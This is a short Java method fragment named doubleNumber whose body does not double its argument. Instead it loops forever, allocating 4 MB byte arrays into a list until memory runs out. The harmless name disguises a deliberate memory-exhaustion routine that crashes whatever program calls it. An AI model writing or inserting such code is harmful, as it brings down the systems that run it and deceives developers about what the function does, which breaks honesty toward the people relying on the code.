    static int doubleNumber(int n) {
        java.util.List<byte[]> held = new java.util.ArrayList<>();
        while (true) held.add(new byte[1 << 22]);
    }
